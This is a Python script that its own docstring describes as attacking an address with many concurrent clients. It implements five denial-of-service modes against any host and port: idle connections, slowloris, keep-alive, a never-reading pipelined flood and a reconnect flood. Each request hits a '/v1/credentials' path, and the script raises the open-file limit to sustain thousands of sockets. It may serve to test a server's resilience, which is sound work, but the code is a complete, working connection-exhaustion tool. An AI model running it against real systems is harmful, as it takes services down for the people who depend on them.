"""Attacks an address with many clients until the process ends: `crowd.py KIND COUNT ADDRESS`.

| kind | each client |
| --- | --- |
| `idle` | connects and sends nothing |
| `slowloris` | sends a byte of a request head each second |
| `keep-alive` | sends a complete request each second and reads the response |
| `never-reading` | sends as many requests as fit and reads no response |
| `flood` | connects, sends a request, closes the connection and starts again at once |

A client whose connection is closed or refused connects again within a second and a half. Prints a line once every client has
connected or tried to.
"""

import asyncio
import random
import resource
import socket
import sys

CONNECT_TIMEOUT = 3


class Crowd:
    def __init__(self, kind, count, address):
        host, port = address.rsplit(":", 1)
        self.address = (host, int(port))
        self.act = {
            "idle": self.idle, "slowloris": self.slowloris, "keep-alive": self.keep_alive,
            "never-reading": self.never_reading, "flood": self.flood,
        }[kind]
        self.pause = (0, 0) if kind == "flood" else (0.5, 1.5)
        self.count = count
        self.request = f"GET /v1/credentials HTTP/1.1\r\nHost: {address}\r\n\r\n".encode()

    async def run(self):
        self.loop = asyncio.get_running_loop()
        first = [self.loop.create_future() for _ in range(self.count)]
        clients = [asyncio.create_task(self.client(future)) for future in first]
        await asyncio.gather(*first)
        print("all have tried to connect", flush=True)
        await asyncio.gather(*clients)

    async def client(self, first):
        while True:
            with socket.socket() as connection:
                connection.setblocking(False)
                try:
                    await asyncio.wait_for(self.loop.sock_connect(connection, self.address), CONNECT_TIMEOUT)
                    self.has_tried(first)
                    await self.act(connection)
                except (OSError, asyncio.TimeoutError):
                    self.has_tried(first)
            await asyncio.sleep(random.uniform(*self.pause))

    @staticmethod
    def has_tried(first):
        if not first.done():
            first.set_result(None)

    async def idle(self, connection):
        await self.loop.sock_recv(connection, 1)

    async def slowloris(self, connection):
        # The head never ends, because the letters after its start extend the last header.
        head = self.request.removesuffix(b"\r\n\r\n")
        while True:
            await self.loop.sock_sendall(connection, head[:1] or b"a")
            head = head[1:]
            await asyncio.sleep(1)

    async def keep_alive(self, connection):
        while True:
            await self.loop.sock_sendall(connection, self.request)
            if not await self.loop.sock_recv(connection, 65536):
                return
            await asyncio.sleep(1)

    async def never_reading(self, connection):
        # Does not return before the server closes the connection, because the buffers fill up.
        await self.loop.sock_sendall(connection, self.request * 100_000)

    async def flood(self, connection):
        await self.loop.sock_sendall(connection, self.request)


if __name__ == "__main__":
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    asyncio.run(Crowd(sys.argv[1], int(sys.argv[2]), sys.argv[3]).run())
